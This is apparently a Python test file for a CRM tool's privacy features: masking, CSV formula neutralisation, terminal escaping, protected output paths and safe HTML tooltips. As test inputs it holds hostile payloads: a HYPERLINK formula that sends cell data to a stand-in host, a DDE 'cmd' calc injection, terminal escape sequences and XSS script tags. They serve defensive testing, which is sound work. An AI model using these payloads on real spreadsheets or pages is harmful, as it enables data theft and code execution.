"""Personal data on its way out (graphcrm.privacy): masking, CSV formula neutralisation in every
CSV writer, terminal text, refused output paths. Real CSV files, a real SQLite store, the
commands through click's CliRunner."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from graphcrm.cli import main
from graphcrm.ingest.readers import clean_value
from graphcrm.privacy import (
    FORMULA_PREFIXES,
    OutputPathError,
    check_output_path,
    mask_frame,
    mask_id_number,
    mask_phone,
    neutralise,
    term,
    term_text,
    unneutralise,
)

EVIL_NAME = "\x1b]0;pwned\x07Evil\x1b[31mRed\x9b2J"
FORMULA_NAME = "=HYPERLINK(\"http://x.example/?\"&A1,\"hi\")"

FILES = {
    "agents.csv": [
        "agent_id,name,hire_date,status,team,phone",
        "A1,陆帆,2020-01-01,active,T1,13900000001",
    ],
    "clients.csv": [
        "client_id,name,birth_date,phone,id_number,income_band",
        f'R1,"{FORMULA_NAME.replace(chr(34), chr(34) * 2)}",1985-01-01,13812341234,'
        "42010619940118000X,middle",
        f"R2,{EVIL_NAME},1986-01-01,13800000012,,middle",
        "N,@SUM(1+1),1990-01-01,13800000013,,middle",
        "Q,'=already,1990-01-01,13800000014,,middle",
        "BAD1,坏号码,1990-01-01,=1+2,,middle",          # rejected: phone
        "BAD2,坏证件,1990-01-01,13800000099,-2+3|cmd,middle",  # rejected: id number
    ],
    "policies.csv": [
        "policy_id,holder_id,category,annual_premium,sum_insured,start_date,status,"
        "servicing_agent_id",
        "PR1,R1,accident,500,100000,2025-01-01,in_force,A1",
        "PN,N,life,10000,100000,2026-03-05,in_force,A1",
    ],
    "relationships.csv": [
        "src_id,dst_id,type,kind,start_date",
        "R1,R2,REFERRED,,2025-06-01",
        "R2,N,REFERRED,,2026-02-01",
        "A1,N,SERVES,,2026-03-05",
        "A1,R1,SERVES,,2025-01-01",
        "A1,Q,SERVES,,2025-01-01",
    ],
}


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("files")
    for name, lines in FILES.items():
        (folder / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def store(files: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("store") / "crm.db"
    rejects = path.parent / "rejects.csv"
    code, _out, err = run("ingest", str(files), "--store", str(path), "--rejects", str(rejects))
    assert code == 0, err
    return path


def raw_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert not bad, f"cells a spreadsheet would run: {bad}"


# -- masking ----------------------------------------------------------------------------------
def test_mask_phone_and_id_number() -> None:
    assert mask_phone("13812341234") == "138****1234"
    assert mask_phone("+86 138-1234-1234") == "138****1234"
    assert mask_id_number("42010619940118001X") == "4201**********001X"
    assert mask_phone(None) is None and mask_id_number(float("nan")) != mask_id_number("x1")
    assert "12341234" not in mask_phone("12341234")  # short numbers keep 3 + 4 at most
    frame = mask_frame(pd.DataFrame({"name": ["a"], "phone": ["13812341234"],
                                     "id_number": ["42010619940118001X"]}))
    assert frame.iloc[0].tolist() == ["a", "138****1234", "4201**********001X"]


# -- CSV formula neutralisation ------------------------------------------------------------------
@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''@x", "'x",
                                   "x=1", "", "'", "普通文本", "=", "''",
                                   "-5", "+1.5", "'-5", "-5+A1", "-1e3"])
def test_neutralise_round_trips_and_never_starts_a_formula(value: str) -> None:
    out = neutralise(value)
    assert not out.startswith(FORMULA_PREFIXES) or float(out) == float(value)  # -5 stays -5
    assert unneutralise(out) == value


def test_rejects_file_masks_numbers_and_neutralises(store: Path) -> None:
    rejects = store.parent / "rejects.csv"
    frame = pd.read_csv(rejects, encoding="utf-8-sig", dtype=str)
    assert set(frame["column"]) >= {"phone", "id_number"}, frame
    assert_no_formula(raw_cells(rejects))
    text = rejects.read_text(encoding="utf-8-sig")
    assert "=1+2" not in text.replace("'=1+2", "")  # the bad phone is masked, not shown whole
    assert "-2+3|cmd" not in text


def test_reward_ledger_csv_is_neutralised_and_reads_back(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "ledger.csv"
    code, stdout, err = run("rewards", "--period", "2026-03", "--store", str(store), "--out",
                            str(out), "--json")
    assert code == 0, err
    lines = json.loads(stdout)["lines"]
    assert lines, "the fixture must produce ledger lines"
    assert_no_formula(raw_cells(out))
    from graphcrm.metrics.rewards import read_paid

    paid = read_paid([out])
    assert set(paid["line_id"]) == {ln["line_id"] for ln in lines if ln["points"] > 0}


def test_export_neutralises_masks_by_default_and_round_trips_unmasked(store: Path,
                                                                       tmp_path: Path) -> None:
    masked, full = tmp_path / "masked", tmp_path / "full"
    assert run("export", "--store", str(store), "--to", str(masked))[0] == 0
    code, out, err = run("export", "--store", str(store), "--to", str(full), "--unmasked",
                         "--json")
    assert code == 0 and json.loads(out)["unmasked"] is True, err
    for folder in (masked, full):
        for f in folder.glob("*.csv"):
            assert_no_formula(raw_cells(f))
    assert "13812341234" not in (masked / "clients.csv").read_text(encoding="utf-8-sig")
    assert "138****1234" in (masked / "clients.csv").read_text(encoding="utf-8-sig")
    # the unmasked copy ingests into an empty store as the same tables, values exact
    copy = tmp_path / "copy.db"
    assert run("ingest", str(full), "--store", str(copy), "--no-warm")[0] == 0
    from graphcrm.model import TABLES, Label
    from graphcrm.store.export import read_table
    from graphcrm.store.sqlite import SQLiteStore

    with SQLiteStore(store, create=False) as a, SQLiteStore(copy, create=False) as b:
        for table in TABLES:
            pd.testing.assert_frame_equal(read_table(a, table), read_table(b, table),
                                          check_dtype=False)
        names = set(a.nodes(Label.CLIENT)["name"])
    # a typed "'=already" is text in a spreadsheet: ingest keeps "=already" (one apostrophe off)
    # ingest removes control characters from every cell (issue 14): the escape-code name is
    # stored cleaned, never raw
    assert {FORMULA_NAME, "@SUM(1+1)", "=already", clean_value(EVIL_NAME, folded=False)} <= names
    assert EVIL_NAME not in names


def test_app_download_bytes_are_masked_and_neutralised() -> None:
    from graphcrm.app.common import csv_bytes

    data = csv_bytes(pd.DataFrame({"name": ["=cmd|' /C calc'!A0"], "phone": ["13812341234"],
                                   "points": [-3.5]}))
    text = data.decode("utf-8-sig")
    assert "'=cmd" in text and "138****1234" in text and "13812341234" not in text
    assert ",-3.5" in text  # numbers stay numbers


# -- terminal -------------------------------------------------------------------------------------
def test_term_strips_control_characters() -> None:
    assert "\x1b" not in term(EVIL_NAME) and "\x07" not in term(EVIL_NAME)
    assert "\x9b" not in term(EVIL_NAME) and "Evil" in term(EVIL_NAME)
    assert term_text("a\nb\x1b") == "a\nb\ufffd"


@pytest.mark.parametrize("args", [("hubs",), ("map", "--agent", "A1"),
                                  ("paths", "--from", "A1", "--to", "R2"),
                                  ("hubs", "--json"), ("map", "--agent", "A1", "--json")])
def test_commands_print_no_escape_sequences(store: Path, args: tuple[str, ...]) -> None:
    code, out, err = run(*args, "--store", str(store))
    assert code == 0, err
    assert "Evil" in out or "\\u001b" in out, out  # the name is there ...
    for ch in ("\x1b", "\x07", "\x9b"):
        assert ch not in out  # ... but never its control characters


# -- output paths ----------------------------------------------------------------------------------
def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("suffix", ["", "-wal", ".analysis"])
def test_rewards_out_cannot_overwrite_the_store(store: Path, suffix: str) -> None:
    before = _digest(store)
    target = f"{store}{suffix}"
    code, out, err = run("rewards", "--period", "2026-03", "--store", str(store), "--out", target)
    assert code == 1 and "refusing to write the ledger" in err, (out, err)
    assert _digest(store) == before
    assert run("stats", "--store", str(store))[0] == 0


def test_rejects_cannot_overwrite_an_input(files: Path, tmp_path: Path) -> None:
    clients = files / "clients.csv"
    before = _digest(clients)
    code, _out, err = run("ingest", str(files), "--store", str(tmp_path / "x.db"), "--rejects",
                         str(clients))
    assert code == 1 and "input" in err
    assert _digest(clients) == before
    code, _out, err = run("ingest", str(files), "--store", str(tmp_path / "x.db"), "--rejects",
                         str(tmp_path / "x.db"))
    assert code == 1 and "store" in err


def test_export_cannot_overwrite_the_store(tmp_path: Path, files: Path) -> None:
    db = tmp_path / "agents.csv"  # a store file that happens to be called like a template
    assert run("ingest", str(files), "--store", str(db), "--no-warm")[0] == 0
    before = _digest(db)
    code, _out, err = run("export", "--store", str(db), "--to", str(tmp_path))
    assert code == 1 and "refusing" in err
    assert _digest(db) == before


def test_check_output_path_library(tmp_path: Path) -> None:
    a = tmp_path / "in.csv"
    a.write_text("x\n")
    with pytest.raises(OutputPathError):
        check_output_path(a, inputs=[a])
    with pytest.raises(OutputPathError):
        check_output_path(tmp_path / "new.csv", inputs=[tmp_path])  # lands in the input folder
    assert check_output_path(tmp_path / "sub" / "ok.csv", inputs=[a]) == tmp_path / "sub" / "ok.csv"


# -- network drawings -------------------------------------------------------------------------
def test_network_tooltips_are_text_never_html() -> None:
    from graphcrm.app.viz import EdgeSpec, NodeSpec, network_html

    evil = '<img src=x onerror="document.title=\'X\'">'
    html = network_html([NodeSpec("a", evil, f"{evil}\nhref=http://x/", "#000"),
                         NodeSpec("b", "</script><script>alert(1)</script>", "href", "#111")],
                        [EdgeSpec("a", "b", "#222", title=evil)])
    assert "popup.innerHTML" not in html  # pyvis's raw-HTML popup template is never used
    assert "<img src=x" not in html and "</script><script>alert" not in html
    assert "textContent" in html and '"title":' not in html


def test_cli_outputs_show_no_full_phone_or_id_number(tmp_path: Path) -> None:
    """Every reading command on the sample, as text and as JSON: no full mobile or ID number."""
    import re

    from tests.conftest import SAMPLE_DIR

    db = tmp_path / "crm.db"
    code, ingest_out, err = run("ingest", str(SAMPLE_DIR), "--store", str(db), "--rejects",
                                str(tmp_path / "r.csv"))
    assert code == 0, err
    clients = pd.read_csv(SAMPLE_DIR / "clients.csv", dtype=str)
    secrets = set(clients["phone"].dropna()) | set(clients["id_number"].dropna())
    outputs = [ingest_out]
    tail = str(clients["phone"].dropna().iloc[0])[-4:]  # `find` by the last phone digits
    for args in (("stats",), ("hubs", "--bridges"), ("map", "--agent", "A000001"),
                 ("gaps", "--agent", "A000001"), ("rewards", "--period", "2026-10"),
                 ("paths", "--from", "A000001", "--to", "C0000002"), ("find", tail),
                 ("find", "C0000002"), ("agents",), ("teams",)):
        for extra in ((), ("--json",)):
            code, out, err = run(*args, *extra, "--store", str(db))
            assert code == 0, (args, err)
            outputs.append(out)
    text = "\n".join(outputs)
    found = {m for m in re.findall(r"\d{11,17}[\dX]?", text) if m in secrets}
    assert not found, sorted(found)[:5]
